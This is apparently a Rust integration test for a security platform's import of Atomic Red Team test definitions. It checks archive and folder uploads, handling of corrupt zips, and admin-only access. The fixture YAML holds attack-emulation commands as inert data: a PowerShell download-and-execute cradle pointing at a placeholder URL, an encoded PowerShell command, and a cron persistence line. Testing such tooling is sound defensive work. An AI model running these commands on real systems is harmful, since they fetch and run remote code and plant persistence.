//! Importing Atomic Red Team as a background job: from the project's archive (served here by a
//! local stand-in for GitHub, as a zip built in the test) and from an uploaded zip; a corrupt
//! archive fails clearly and changes nothing; uploads during an import are refused.
use crate::common::{Backend, TestApp, json_body, wait_for_run};
use crate::for_each_backend;
use axum::Router;
use axum::routing::get;
use serde_json::Value;
use std::io::Write;
use std::path::PathBuf;

for_each_backend!(
    atomics_import_from_archive_and_upload,
    atomics_import_from_an_uploaded_folder
);

const BUNDLE: &str = include_str!("../fixtures/attack-mini.json");

const POWERSHELL: &str = r#"attack_technique: T1059.001
display_name: PowerShell
atomic_tests:
- name: Download cradle
  auto_generated_guid: f3132740-55bc-48c4-bcc0-758a459cd027
  description: Downloads and runs a script.
  supported_platforms: [windows]
  input_arguments:
    url:
      description: Where from
      type: url
      default: https://example.test/a.ps1
  executor:
    name: powershell
    command: IEX (iwr '#{url}')
- name: Encoded command
  auto_generated_guid: 0f2c5a7e-7b4f-4c3a-9a55-2d7c3c1b9e01
  description: Runs an encoded command.
  supported_platforms: [windows]
  executor:
    name: command_prompt
    command: powershell -enc ZQBjAGgAbwA=
"#;

const CRON: &str = r#"attack_technique: T1053
display_name: Scheduled Task/Job
atomic_tests:
- name: Cron job
  auto_generated_guid: 5f1d6c1a-1111-4c3a-9a55-2d7c3c1b9e02
  description: Adds a cron job.
  supported_platforms: [linux]
  executor:
    name: sh
    command: echo '* * * * * id' | crontab -
"#;

/// A zip laid out like GitHub's archive of the repository, with files Aegis must not read.
fn archive(files: &[(&str, &str)]) -> Vec<u8> {
    let mut buffer = std::io::Cursor::new(Vec::new());
    {
        let mut zip = zip::ZipWriter::new(&mut buffer);
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        zip.add_directory("atomic-red-team-master/", options)
            .unwrap();
        zip.start_file("atomic-red-team-master/README.md", options)
            .unwrap();
        zip.write_all(b"# Atomic Red Team").unwrap();
        zip.start_file("atomic-red-team-master/atomics/Indexes/index.yaml", options)
            .unwrap();
        zip.write_all(b"not: an atomic").unwrap();
        for (path, text) in files {
            zip.start_file(format!("atomic-red-team-master/{path}"), options)
                .unwrap();
            zip.write_all(text.as_bytes()).unwrap();
        }
        zip.finish().unwrap();
    }
    buffer.into_inner()
}

/// Serves `/archive.zip` with the given bytes.
pub async fn serve_archive(bytes: Vec<u8>) -> std::net::SocketAddr {
    let router = Router::new().route(
        "/archive.zip",
        get(move || {
            let bytes = bytes.clone();
            async move { bytes }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let _ = axum::serve(listener, router).await;
    });
    addr
}

async fn templates_total(app: &TestApp, token: &str) -> u64 {
    json_body(app.get("/api/v1/test-templates?limit=500", token).await).await["total"]
        .as_u64()
        .unwrap()
}

async fn start_import(app: &TestApp, token: &str, form: Option<reqwest::multipart::Form>) -> Value {
    let (status, body) = post_import(app, token, form).await;
    assert_eq!(status, 202, "{body}");
    body
}

fn upload_form(name: &str, bytes: Vec<u8>) -> reqwest::multipart::Form {
    reqwest::multipart::Form::new().part(
        "file",
        reqwest::multipart::Part::bytes(bytes).file_name(name.to_owned()),
    )
}

fn upload_dir(app: &TestApp) -> PathBuf {
    app.data_dir().join("uploads")
}

async fn atomics_import_from_archive_and_upload(backend: Backend) {
    let good = serve_archive(archive(&[
        ("atomics/T1059.001/T1059.001.yaml", POWERSHELL),
        ("atomics/T1053/T1053.yaml", CRON),
    ]))
    .await;
    let app = TestApp::start_with(
        backend,
        &[(
            "AEGIS_ATOMICS_ARCHIVE_URL",
            format!("http://{good}/archive.zip"),
        )],
    )
    .await;
    let admin = app.admin_token().await;
    app.import_bundle(&admin, "bundle.json", BUNDLE.as_bytes().to_vec())
        .await;

    // From the archive (no body): a job with progress and a report.
    let enqueued = start_import(&app, &admin, None).await;
    assert_eq!(enqueued["job"], "atomics_import");
    let run = wait_for_run(&app, &admin, enqueued["job_id"].as_str().unwrap()).await;
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(
        run["result"]["source"],
        format!("archive:http://{good}/archive.zip")
    );
    let report = &run["result"]["report"];
    assert_eq!(
        report["files"], 2,
        "only atomics/<T-id>/T*.yaml is read: {report}"
    );
    assert_eq!(report["added"], 3);
    assert_eq!(templates_total(&app, &admin).await, 3);
    // Runs are audited with their source.
    let audit = json_body(app.get("/api/v1/audit-logs?action=job.run", &admin).await).await;
    assert_eq!(audit["items"][0]["after"]["params"]["source"], "archive");

    // Again from an upload of the same content: nothing changes, and the file is gone after.
    let enqueued = start_import(
        &app,
        &admin,
        Some(upload_form(
            "atomics.zip",
            archive(&[
                ("atomics/T1059.001/T1059.001.yaml", POWERSHELL),
                ("atomics/T1053/T1053.yaml", CRON),
            ]),
        )),
    )
    .await;
    let run = wait_for_run(&app, &admin, enqueued["job_id"].as_str().unwrap()).await;
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(run["result"]["source"], "upload:atomics.zip");
    assert_eq!(run["result"]["report"]["unchanged"], 3);
    assert_eq!(run["result"]["report"]["added"], 0);
    let file = run["params"]["file"].as_str().unwrap();
    assert!(
        !upload_dir(&app).join(file).exists(),
        "uploads are removed after their import"
    );

    // A corrupt archive is refused before any job is queued, and the catalog is untouched.
    let (status, body) = post_import(
        &app,
        &admin,
        Some(upload_form(
            "broken.zip",
            b"PK\x03\x04 this is not a zip".to_vec(),
        )),
    )
    .await;
    assert_eq!(status, 400, "{body}");
    assert!(
        body["detail"]
            .as_str()
            .unwrap()
            .contains("not a zip archive"),
        "{body}"
    );
    assert_eq!(templates_total(&app, &admin).await, 3);

    // A zip without atomics says so, at once: a parse error is not retried.
    let enqueued = start_import(&app, &admin, Some(upload_form("empty.zip", archive(&[])))).await;
    let run = wait_for_run(&app, &admin, enqueued["job_id"].as_str().unwrap()).await;
    assert_eq!(run["status"], "failed");
    assert!(
        run["error"]
            .as_str()
            .unwrap()
            .contains("no Atomic Red Team files"),
        "{run}"
    );
    assert_eq!(run["attempts"], 1, "{run}");

    // Only admins; a multipart body without a file is a field error.
    app.create_user(&admin, "redtech", "red_tech", "red-tech-password")
        .await;
    let red = app.login("redtech", "red-tech-password").await;
    let response = app
        .request(
            reqwest::Method::POST,
            "/api/v1/system/import-atomic-red-team",
            Some(&red),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 403);
    let response = app
        .request(
            reqwest::Method::POST,
            "/api/v1/system/import-atomic-red-team",
            Some(&admin),
        )
        .multipart(reqwest::multipart::Form::new().text("other", "x"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 422);

    // The job history lists every import, newest first.
    let runs = json_body(app.get("/api/v1/system/jobs", &admin).await).await;
    let imports: Vec<&Value> = runs
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["job"] == "atomics_import")
        .collect();
    assert_eq!(imports.len(), 3, "the corrupt upload never became a job");
    app.finish().await;
}

/// A folder's files, each part named by its path inside the folder, as the System panel's
/// folder picker sends them.
fn folder_form(files: &[(&str, &str)]) -> reqwest::multipart::Form {
    files
        .iter()
        .fold(reqwest::multipart::Form::new(), |form, (path, text)| {
            form.part(
                "files",
                reqwest::multipart::Part::bytes(text.as_bytes().to_vec())
                    .file_name((*path).to_owned()),
            )
        })
}

async fn post_import(
    app: &TestApp,
    token: &str,
    form: Option<reqwest::multipart::Form>,
) -> (u16, Value) {
    let mut request = app.request(
        reqwest::Method::POST,
        "/api/v1/system/import-atomic-red-team",
        Some(token),
    );
    if let Some(form) = form {
        request = request.multipart(form);
    }
    let response = request.send().await.unwrap();
    let status = response.status().as_u16();
    (status, json_body(response).await)
}

async fn atomics_import_from_an_uploaded_folder(backend: Backend) {
    let app = TestApp::start(backend).await;
    let admin = app.admin_token().await;
    app.import_bundle(&admin, "bundle.json", BUNDLE.as_bytes().to_vec())
        .await;

    // The repository folder as picked: atomics among other files, which are left out.
    let enqueued = start_import(
        &app,
        &admin,
        Some(folder_form(&[
            ("atomic-red-team/README.md", "# Atomic Red Team"),
            (
                "atomic-red-team/atomics/T1059.001/T1059.001.yaml",
                POWERSHELL,
            ),
            (
                "atomic-red-team/atomics/T1059.001/T1059.001.md",
                "# PowerShell",
            ),
            ("atomic-red-team/atomics/T1053/T1053.yaml", CRON),
            ("atomic-red-team/atomics/T1053/src/payload.bin", "MZ\0\0"),
            ("atomic-red-team/atomics/Indexes/index.yaml", "x: [unclosed"),
        ])),
    )
    .await;
    let run = wait_for_run(&app, &admin, enqueued["job_id"].as_str().unwrap()).await;
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(run["result"]["source"], "upload:atomic-red-team/ (folder)");
    let report = &run["result"]["report"];
    assert_eq!(report["files"], 2, "only the atomics are read: {report}");
    assert_eq!(report["added"], 3);
    assert_eq!(templates_total(&app, &admin).await, 3);

    // One technique's folder, re-imported with a change upstream: one updated, one unchanged.
    let changed = POWERSHELL.replace(
        "Downloads and runs a script.",
        "Downloads and runs a remote script.",
    );
    assert_ne!(changed, POWERSHELL);
    let enqueued = start_import(
        &app,
        &admin,
        Some(folder_form(&[("T1059.001/T1059.001.yaml", &changed)])),
    )
    .await;
    let run = wait_for_run(&app, &admin, enqueued["job_id"].as_str().unwrap()).await;
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(run["result"]["report"]["updated"], 1, "{run}");
    assert_eq!(templates_total(&app, &admin).await, 3);

    // A folder without atomics, two files that are the same atomic, a zip and a folder at
    // once: field errors.
    let (status, body) = post_import(
        &app,
        &admin,
        Some(folder_form(&[
            ("docs/README.md", "# nothing"),
            ("docs/T1.txt", "no"),
        ])),
    )
    .await;
    assert_eq!(status, 422, "{body}");
    assert!(
        body["fields"]["files"]
            .as_str()
            .unwrap()
            .contains("no Atomic Red Team files"),
        "{body}"
    );
    let (status, body) = post_import(
        &app,
        &admin,
        Some(folder_form(&[
            ("a/atomics/T1053/T1053.yaml", CRON),
            ("b/atomics/T1053/T1053.yaml", CRON),
        ])),
    )
    .await;
    assert_eq!(status, 422, "{body}");
    assert!(
        body["fields"]["files"]
            .as_str()
            .unwrap()
            .contains("atomics/T1053/T1053.yaml"),
        "{body}"
    );
    let both = upload_form(
        "atomics.zip",
        archive(&[("atomics/T1053/T1053.yaml", CRON)]),
    )
    .part(
        "files",
        reqwest::multipart::Part::bytes(CRON.as_bytes().to_vec())
            .file_name("atomics/T1053/T1053.yaml"),
    );
    let (status, body) = post_import(&app, &admin, Some(both)).await;
    assert_eq!(status, 422, "{body}");
    app.finish().await;
}
